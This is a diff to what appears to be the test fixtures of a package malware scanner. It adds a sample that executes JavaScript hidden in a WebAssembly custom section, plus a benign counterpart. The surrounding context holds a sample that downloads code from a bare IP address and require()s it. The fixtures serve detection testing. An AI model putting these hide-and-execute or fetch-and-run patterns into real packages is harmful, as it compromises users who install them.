@@ -7,6 +7,14 @@ const HEAD =
 export const samples: Samples = {
   malicious: [
     {
+      name: 'a section of a WebAssembly program that is run as code',
+      files: imported(
+        "const wasm = new WebAssembly.Module(require('fs').readFileSync(__dirname + '/a.wasm'));\nconst [part] = WebAssembly.Module.customSections(wasm, 'glue');\nnew Function(new TextDecoder().decode(part))();\n",
+        { 'a.wasm': 'x' },
+      ),
+      expected: [at('code-from-data', 'high', 'index.js', 3)],
+    },
+    {
       name: 'a function that loads what a bare address gives',
       files: imported(
         "const fs = require('fs'), path = require('path'), os = require('os');\nexports.load = async (name) => {\n  const file = path.join(os.homedir(), '.cache', 'own', name);\n  fs.writeFileSync(file, await (await fetch('http://203.0.113.7/p/' + name)).text());\n  return require(file);\n};\n",
@@ -166,6 +174,13 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'a WebAssembly program that is read beside what runs text',
+      imported(
+        "const vm = require('vm');\nconst files = ['a.wasm'].map((name) => require('fs').readFileSync(__dirname + '/' + name));\nexports.run = (context) => vm.runInContext(String(files[0].length), context);\n",
+        { 'a.wasm': 'x' },
+      ),
+    ),
     quiet(
       'Python: tables out of an archive, and a module of a user',
       wheel(
